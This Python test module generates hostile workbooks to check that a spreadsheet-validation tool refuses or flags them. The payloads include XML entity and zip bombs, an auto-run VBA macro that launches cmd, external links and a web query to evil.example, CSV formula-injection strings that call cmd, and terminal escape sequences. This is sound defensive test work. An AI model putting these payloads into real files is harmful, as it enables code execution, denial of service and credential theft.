"""A corpus of bad inputs, generated (no opaque binaries in the repository).

Each case writes one file from a good application workbook and says what every entry point must do
with it: ``exit`` of ``shibai check`` (0 = readable, 2 = refused), a word its Chinese message must
contain, and for readable files the finding codes that must be reported.
"""
from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from openpyxl import load_workbook

from shibai_xl.addin.cfb import build_compound_file
from shibai_xl.addin.ovba import VbaModule, build_vba_project
from tests.zip_parts import rewrite


@dataclass
class Case:
    name: str
    filename: str
    build: Callable[[Path, Path], None]          # (good workbook, target) → writes target
    exit: int                                    # shibai check exit code
    says: str = ""                               # a word of the Chinese message (refusals) …
    codes: set[str] = field(default_factory=set)  # … or finding codes (readable files)
    category: str = ""


def _rewrite(good: Path, target: Path, edit: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None):
    rewrite(good, target, edit, extra=extra)


def _edit_names(good: Path, target: Path, edit: Callable) -> None:
    wb = load_workbook(good)
    edit(wb)
    wb.save(target)


def _cell(wb, name):
    from shibai_xl.adapters.xlsx.filler import named_cell
    return named_cell(wb, name)


def _set(name, value):
    def build(good, target):
        def edit(wb):
            c = _cell(wb, name)
            c.value = value
            if isinstance(value, str) and value.startswith("="):
                c.data_type = "s"
        _edit_names(good, target, edit)
    return build


def _bytes(data: bytes):
    return lambda good, target: target.write_bytes(data)


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
                  b"<si><t>&lol9;</t></si></sst>")


DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def _billion_laughs_in(part: str):
    def build(good, target):
        with zipfile.ZipFile(good) as z:
            present = part in z.namelist()

        def edit(name, data):
            if name == part:
                if part.endswith("sharedStrings.xml"):
                    return BILLION_LAUGHS
                if data.startswith(b"<?xml"):
                    end = data.index(b"?>") + 2
                    return data[:end] + DTD + data[end:]
                return DTD + data
            return data
        _rewrite(good, target, edit, {} if present else {part: BILLION_LAUGHS})
    return build


def _dtd_behind(part: str, before: bytes):
    """A DTD after other prolog content (a comment, white space): the first bytes alone do not show it."""
    def build(good, target):
        def edit(name, data):
            if name != part:
                return data
            end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
            return data[:end] + before + DTD + data[end:]
        _rewrite(good, target, edit)
    return build


def _zip_bomb(good: Path, target: Path) -> None:
    """A sheet that inflates to 300 MB of zeros (a few hundred KB on disk)."""
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        with dst.open("xl/worksheets/sheet9.xml", "w") as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(300):
                fh.write(chunk)


def _lying_zip_bomb(good: Path, target: Path) -> None:
    """A member whose header claims 1 KB but whose deflate stream inflates to 50 MB."""
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = payload.compress(b"\0" * (50 << 20)) + payload.flush()
    buf = io.BytesIO(good.read_bytes())
    with zipfile.ZipFile(buf, "a") as z:
        info = zipfile.ZipInfo("xl/media/bomb.bin")
        info.compress_type = zipfile.ZIP_STORED
        z.writestr(info, body)
    data = bytearray(buf.getvalue())
    # patch the central directory entry of the last member: method 8 (deflate) and a 1 KB uncompressed size
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<H", data, cd + 10, 8)
    struct.pack_into("<I", data, cd + 24, 1024)
    lh = data.rfind(b"PK\x03\x04", 0, cd)
    struct.pack_into("<H", data, lh + 8, 8)
    struct.pack_into("<I", data, lh + 22, 1024)
    target.write_bytes(bytes(data))


def _quiet_lying_zip_bomb(good: Path, target: Path) -> None:
    """The application sheet itself, claiming 2 MB (a harmless ratio) while its stream inflates to 200 MB:
    only inflating it tells."""
    with zipfile.ZipFile(good) as src:
        sheet = src.read("xl/worksheets/sheet1.xml")
        others = [(i, src.read(i.filename)) for i in src.infolist() if i.filename != "xl/worksheets/sheet1.xml"]
    cut = sheet.index(b"</sheetData>")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(sheet[:cut]) + b"".join(packer.compress(b" " * (1 << 20)) for _ in range(200))
    body += packer.compress(sheet[cut:]) + packer.flush()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info, data in others:
            dst.writestr(info, data)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_STORED
        dst.writestr(info, body)
    data = bytearray(buf.getvalue())
    cd = data.rfind(b"PK\x01\x02")
    lh = data.rfind(b"PK\x03\x04", 0, cd)
    for method_at, size_at in ((cd + 10, cd + 24), (lh + 8, lh + 22)):
        struct.pack_into("<H", data, method_at, 8)
        struct.pack_into("<I", data, size_at, 2 << 20)
    target.write_bytes(bytes(data))


def _in_sheet_xml(edit: Callable[[bytes], bytes]):
    """An edit of the application sheet's XML, where openpyxl would not write it."""
    return lambda good, target: _rewrite(good, target, lambda n, d: edit(d) if n == "xl/worksheets/sheet1.xml" else d)


def _far_cell(data: bytes) -> bytes:
    """One value in the last cell of the sheet (XFD1048576): calamine's grid of it needs 550 GB."""
    return data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


def _escaped_controls(good: Path, target: Path) -> None:
    """Control characters as Excel stores pasted ones (_x001B_): ESC ] 0 ; … BEL retitles a terminal."""
    tmp = target.with_suffix(".tmp.xlsx")
    _set("sb_name", "黔货QQQ电商")(good, tmp)
    _rewrite(tmp, target, lambda n, d: d.replace(b"QQQ", b"_x0001__x001B_]0;pwned_x0007__x001B_[2J")
             if n.startswith("xl/worksheets/") else d)
    tmp.unlink()


def _encrypted(good: Path, target: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile
    with open(good, "rb") as fh, open(target, "wb") as out:
        OOXMLFile(fh).encrypt("密码123", out)


def _ole(streams: dict[str, bytes]):
    return lambda good, target: target.write_bytes(build_compound_file(streams))


def _truncated(fraction: float):
    return lambda good, target: target.write_bytes(good.read_bytes()[: int(good.stat().st_size * fraction)])


def _wps_dimension(good: Path, target: Path) -> None:
    """WPS sometimes saves <dimension ref="A1"/> although the sheet has data further down."""
    import re

    def edit(name, data):
        if name.startswith("xl/worksheets/sheet"):
            return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1"/>', data)
        return data
    _rewrite(good, target, edit)


def _xlsm_with_autoexec(good: Path, target: Path) -> None:
    code = 'Private Sub Workbook_Open()\r\n    Shell "cmd /c calc.exe"\r\nEnd Sub\r\n'
    vba = build_vba_project([VbaModule("ThisWorkbook", code, "document")])

    def edit(name, data):
        if name == "[Content_Types].xml":
            data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            return data.replace(b"<Default Extension=\"xml\"", b"<Default Extension=\"bin\" ContentType=\""
                                b"application/vnd.ms-office.vbaProject\"/><Default Extension=\"xml\"")
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/'
                                b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        return data
    _rewrite(good, target, edit, {"xl/vbaProject.bin": vba})


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _external_links(good: Path, target: Path) -> None:
    """A form whose formulas linked to another company's workbook on a share (opening offers to update it, and the
    share is asked for the user's Windows credentials) and a web query refreshed on open."""
    def edit(name, data):
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/connections.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/><Override PartName='
                                b'"/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
                                b'officedocument.spreadsheetml.externalLink+xml"/></Types>')
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", f'<Relationship Id="rIdC1" Type="{_REL}/connections" Target='
                                f'"connections.xml"/><Relationship Id="rIdX1" Type="{_REL}/externalLink" Target='
                                f'"externalLinks/externalLink1.xml"/></Relationships>'.encode())
        if name == "xl/workbook.xml":
            return data.replace(b"</sheets>", f'</sheets><externalReferences><externalReference xmlns:r="{_REL}" '
                                f'r:id="rIdX1"/></externalReferences>'.encode())
        return data
    _rewrite(good, target, edit, {
        "xl/connections.xml": b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats'
                              b'.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1">'
                              b'<webPr url="http://evil.example/q"/></connection></connections>',
        "xl/externalLinks/externalLink1.xml": f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://'
                                              f'schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_REL}">'
                                              f'<externalBook r:id="rId1"/></externalLink>'.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
                                                         f'"http://schemas.openxmlformats.org/package/2006/relationships">'
                                                         f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" Target='
                                                         f'"file:///\\\\evil.example\\share\\%E8%B4%A2%E5%8A%A1.xlsx" '
                                                         f'TargetMode="External"/></Relationships>'.encode()})


def _many_residents(n: int):
    def build(good, target):
        from shibai_xl.adapters.xlsx.filler import fill_residents
        from shibai_xl.examples import example_residents
        wb = load_workbook(good)
        fill_residents(wb, example_residents("park", n))
        wb.save(target)
    return build


def _drop_names(good: Path, target: Path) -> None:
    def edit(wb):
        for name in [n for n in wb.defined_names if n.startswith("sb_") and n not in ("sb_name", "sb_type")]:
            del wb.defined_names[name]
    _edit_names(good, target, edit)


def _random_workbook(good: Path, target: Path) -> None:
    from openpyxl import Workbook
    wb = Workbook()
    rng = random.Random(3)
    for _ in range(1, 50):
        wb.active.append([rng.random() for _ in range(8)])
    wb.save(target)


def _name_to_missing_sheet(good: Path, target: Path) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    def edit(wb):
        wb.defined_names["sb_live_sales"] = DefinedName("sb_live_sales", attr_text="'已删除的表'!$C$5")
    _edit_names(good, target, edit)


def _error_values(good: Path, target: Path) -> None:
    def edit(name, data):
        return data
    def edit_wb(wb):
        _cell(wb, "sb_live_sales").value = "#DIV/0!"
    _edit_names(good, target, edit_wb)


def _docx(good: Path, target: Path) -> None:
    with zipfile.ZipFile(target, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")


def _plain_zip(good: Path, target: Path) -> None:
    with zipfile.ZipFile(target, "w") as z:
        z.writestr("readme.txt", "hello")


def _bad_crc(good: Path, target: Path) -> None:
    """Flip bytes inside the compressed workbook.xml: the CRC no longer matches."""
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as z:
        info = z.getinfo("xl/workbook.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for k in range(start + 10, start + 20):
        data[k] ^= 0x55
    target.write_bytes(bytes(data))


def _png(good, target):
    target.write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(200))


TEAM_CASES = [
    # category: not a workbook at all
    Case("empty", "空文件.xlsx", _bytes(b""), 2, "空的", category="不是工作簿"),
    Case("random-bytes", "乱码.xlsx", lambda g, t: t.write_bytes(random.Random(1).randbytes(5000)), 2, "无法识别",
         category="不是工作簿"),
    Case("csv-as-xlsx", "名单.xlsx", _bytes("企业名称,交易额\n甲公司,100\n".encode("gbk")), 2, "CSV", category="不是工作簿"),
    Case("html-as-xls", "导出.xls", _bytes(b"<html><body><table><tr><td>1</td></tr></table></body></html>"), 2, "文本文件",
         category="不是工作簿"),
    Case("pdf-renamed", "扫描件.xlsx", _bytes(b"%PDF-1.7\n" + b"x" * 500), 2, "PDF 文件", category="不是工作簿"),
    Case("png-renamed", "截图.xlsx", _png, 2, "图片", category="不是工作簿"),
    Case("docx-renamed", "申报书.xlsx", _docx, 2, "Word", category="不是工作簿"),
    Case("plain-zip", "打包.xlsx", _plain_zip, 2, "不是 Excel 工作簿", category="不是工作簿"),
    Case("truncated-half", "半截.xlsx", _truncated(0.5), 2, "损坏", category="不是工作簿"),
    Case("truncated-tail", "少尾巴.xlsx", _truncated(0.98), 2, "损坏", category="不是工作簿"),
    Case("bad-crc", "校验错.xlsx", _bad_crc, 2, "损坏", category="不是工作簿"),
    # legacy and other formats
    Case("xls", "旧格式.xls", _ole({"Workbook": b"\x09\x08" + b"\0" * 600}), 2, ".xls", category="旧格式"),
    Case("et", "金山.et", _ole({"Workbook": b"\x09\x08" + b"\0" * 600}), 2, ".et", category="旧格式"),
    Case("wps", "文字.wps", _ole({"WordDocument": b"\0" * 600}), 2, "文字文档", category="旧格式"),
    Case("encrypted", "加密.xlsx", _encrypted, 2, "密码", category="加密"),
    # not an application workbook
    Case("random-workbook", "随便一个表.xlsx", _random_workbook, 2, "不是申报表", category="不是申报表"),
    # names gone but the printed form intact: read by its labels (issue 12, item 9)
    Case("names-removed", "删了名称.xlsx", _drop_names, 0, codes={"FILE_LABELS"}, category="内容"),
    # hostile XML and archives
    Case("billion-laughs-sst", "笑话炸弹.xlsx", _billion_laughs_in("xl/sharedStrings.xml"), 2, "XML", category="XML/压缩炸弹"),
    Case("dtd-in-workbook", "实体.xlsx", _billion_laughs_in("xl/workbook.xml"), 2, "XML", category="XML/压缩炸弹"),
    Case("dtd-in-sheet", "实体表.xlsx", _billion_laughs_in("xl/worksheets/sheet1.xml"), 2, "XML", category="XML/压缩炸弹"),
    Case("dtd-behind-comment", "注释后实体.xlsx", _dtd_behind("xl/styles.xml", b"<!-- styles -->"), 2, "XML",
         category="XML/压缩炸弹"),
    Case("zip-bomb", "炸弹.xlsx", _zip_bomb, 2, "压缩炸弹", category="XML/压缩炸弹"),
    Case("lying-zip-bomb", "伪装炸弹.xlsx", _lying_zip_bomb, 2, "不符", category="XML/压缩炸弹"),
    Case("quiet-lying-zip-bomb", "悄悄的炸弹.xlsx", _quiet_lying_zip_bomb, 2, "损坏", category="XML/压缩炸弹"),
    # readable, with bad contents
    Case("approx-amount", "约数.xlsx", _set("sb_live_sales", "约三千万左右"), 0, codes={"FIELD_AMOUNT", "ELIG_MISSING"},
         category="内容"),
    Case("negative-amount", "负数.xlsx", _set("sb_live_sales", -600), 0, codes={"FIELD_AMOUNT"}, category="内容"),
    Case("free-text-date", "文字日期.xlsx", _set("sb_established", "前年春天"), 0, codes={"FIELD_DATE", "ELIG_MISSING"},
         category="内容"),
    Case("impossible-date", "不存在的日期.xlsx", _set("sb_fill_date", "2024年2月30日"), 0, codes={"FIELD_DATE"}, category="内容"),
    Case("error-value", "错误值.xlsx", _error_values, 0, codes={"FIELD_AMOUNT"}, category="内容"),
    Case("formula-name", "公式名称.xlsx", _set("sb_name", '=HYPERLINK("http://evil.example","点这里")'), 0, codes=set(),
         category="公式注入"),
    Case("plus-name", "加号名称.xlsx", _set("sb_name", "+1+cmd|' /C calc'!A0"), 0, codes=set(), category="公式注入"),
    Case("at-name", "at名称.xlsx", _set("sb_name", "@SUM(1+1)*cmd|' /C calc'!A0"), 0, codes=set(), category="公式注入"),
    Case("tab-name", "制表符名称.xlsx", _set("sb_name", "\t=1+2"), 0, codes=set(), category="公式注入"),
    Case("cr-name", "回车名称.xlsx", _set("sb_name", "\r=1+2"), 0, codes=set(), category="公式注入"),
    Case("minus-name", "减号名称.xlsx", _set("sb_name", "-2+3+cmd|' /C calc'!A0"), 0, codes=set(), category="公式注入"),
    Case("missing-sheet-name", "名称断链.xlsx", _name_to_missing_sheet, 0, codes={"FILE_LABELS"}, category="内容"),
    Case("wps-dimension", "WPS保存.xlsx", _wps_dimension, 0, codes=set(), category="WPS"),
    Case("autoexec-macro", "带宏.xlsm", _xlsm_with_autoexec, 0, codes={"FILE_MACRO"}, category="宏"),
    Case("external-links", "外部链接.xlsx", _external_links, 0, codes={"FILE_LINKS"}, category="宏"),
    Case("huge-text", "超长文字.xlsx", _set("sb_performance", "业绩" * 16000), 0, codes=set(), category="内容"),
    Case("escaped-controls", "转义控制字符.xlsx", _escaped_controls, 0, codes=set(), category="内容"),
    Case("control-chars", "控制字符.xlsx", _set("sb_address", "贵阳\u202e市\u200b红色\ufeff"), 0, codes=set(), category="内容"),
    Case("far-cell", "最远的格.xlsx", _in_sheet_xml(_far_cell), 2, "Ctrl+End", category="超大"),
    Case("uscc-as-number", "代码成了数字.xlsx", _set("sb_uscc", 9.15201e17), 0, codes={"FIELD_USCC"}, category="内容"),
]

PARK_CASES = [
    Case("10000-residents", "一万家入驻.xlsx", _many_residents(10000), 0, codes={"XC_RESIDENT_COUNT"}, category="超大"),
]

ALL_CASES = TEAM_CASES + PARK_CASES
